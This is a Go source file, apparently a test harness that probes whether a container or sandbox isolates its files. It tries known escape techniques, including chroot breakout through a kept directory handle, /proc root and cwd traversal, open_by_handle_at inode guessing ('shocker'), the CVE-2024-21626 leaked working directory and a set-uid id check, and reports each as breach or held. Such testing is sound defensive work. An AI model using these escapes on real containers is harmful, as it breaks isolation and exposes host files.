package main

import (
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// escape MARKER: leaves the root by the known ways. MARKER is a path that exists
// on the host only.
func escape(args []string) {
	marker := args[0]
	look := func(name, dir string) {
		if marked(dir, marker) {
			breach(name, "the host's files")
		} else {
			held(name, "only the container's files")
		}
	}
	look("the root", "")
	look("the root's parent", "/../../../..")
	for _, pid := range pids() {
		look("root of a process", fmt.Sprintf("/proc/%d/root", pid))
		look("cwd of a process", fmt.Sprintf("/proc/%d/cwd/../../../../../../../..", pid))
	}
	handles(marker)
	// chroot(2) leaves an open folder and the working directory behind it.
	_ = os.MkdirAll("/jail", 0o755)
	out, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err == nil {
		err = unix.Chroot("/jail")
	}
	if err != nil {
		held("chroot", err)
		return
	}
	_ = unix.Fchdir(out)
	for range 64 {
		_ = unix.Chdir("..")
	}
	look("chdir .. out of a chroot", ".")
	_ = unix.Chroot(".")
	look("a second chroot", "")
	look("pivot", fmt.Sprintf("/proc/self/fd/%d/../../..", out))
}

// handles opens inodes by number, which needs no path (the "shocker" of 2014).
func handles(marker string) {
	mount, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		held("open /", err)
		return
	}
	defer unix.Close(mount)
	fds := []int{mount}
	for _, path := range []string{"/etc/hosts", "/etc/resolv.conf", "/etc/hostname", "/host"} { // bind mounts of the host's file system
		if fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
			defer unix.Close(fd)
			fds = append(fds, fd)
		}
	}
	for _, fd := range fds {
		for _, inode := range []uint32{2, 128, 256} { // the root of ext4, xfs, btrfs
			data := make([]byte, 8)
			binary.NativeEndian.PutUint32(data, inode)
			h := unix.NewFileHandle(1, data)
			got, err := unix.OpenByHandleAt(fd, h, unix.O_RDONLY)
			if err != nil {
				held("open_by_handle_at", err)
				continue
			}
			if marked(fmt.Sprintf("/proc/self/fd/%d", got), marker) {
				breach("open_by_handle_at", "the root of the host's file system")
			} else {
				held("open_by_handle_at", "something else")
			}
			_ = unix.Close(got)
		}
	}
}

// cwd MARKER: the working directory must lie inside (CVE-2024-21626).
func cwd(args []string) {
	marker := args[0]
	dir, err := unix.Getwd()
	if err != nil || !filepath.IsAbs(dir) || strings.HasPrefix(dir, "(") {
		breach("working directory", "%q %v", dir, err)
	} else {
		held("working directory", dir)
	}
	for _, from := range []string{".", "/proc/self/cwd", "/proc/1/cwd"} {
		for up := range 12 {
			if at := from + strings.Repeat("/..", up); marked(at, marker) {
				breach("above the working directory", "%s shows the host", at)
			}
		}
	}
	if link, err := os.Readlink("/proc/self/cwd"); err == nil && strings.Contains(link, marker) {
		breach("working directory", "is %s", link)
	}
}

// suid ROOT PROGRAM: executes a set-uid program of the host's root, in ROOT. Its
// ids are read while it waits for input, or when it has ended and nobody has
// waited for it yet: a zombie keeps them.
func suid(args []string) {
	cmd := exec.Command(args[1])
	if args[0] != "/" {
		cmd.SysProcAttr = &syscall.SysProcAttr{Chroot: args[0]}
	}
	in, err := cmd.StdinPipe()
	if err == nil {
		err = cmd.Start()
	}
	if err != nil {
		held("execute "+args[1], err)
		return
	}
	time.Sleep(300 * time.Millisecond)
	status, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", cmd.Process.Pid))
	_, ids, _ := strings.Cut(string(status), "\nUid:")
	ids, _, _ = strings.Cut(ids, "\n")
	if f := strings.Fields(ids); len(f) != 4 || f[1] != strconv.Itoa(os.Geteuid()) {
		breach("execute "+args[1], "its ids are %q", ids)
	} else {
		held("execute "+args[1], "as ourselves:"+ids)
	}
	_ = in.Close()
	_ = cmd.Process.Kill()
	_ = cmd.Wait()
}

// serve PORT TEXT answers every connection with TEXT.
func serve(args []string) {
	l, err := net.Listen("tcp", "0.0.0.0:"+args[0])
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	fmt.Println("listening")
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		_, _ = io.WriteString(c, args[1])
		_ = c.Close()
	}
}

// fetch ADDRESS prints what it answers, or fails.
func fetch(args []string) {
	c, err := net.DialTimeout("tcp", args[0], 3*time.Second)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
	_, _ = io.Copy(os.Stdout, c)
}
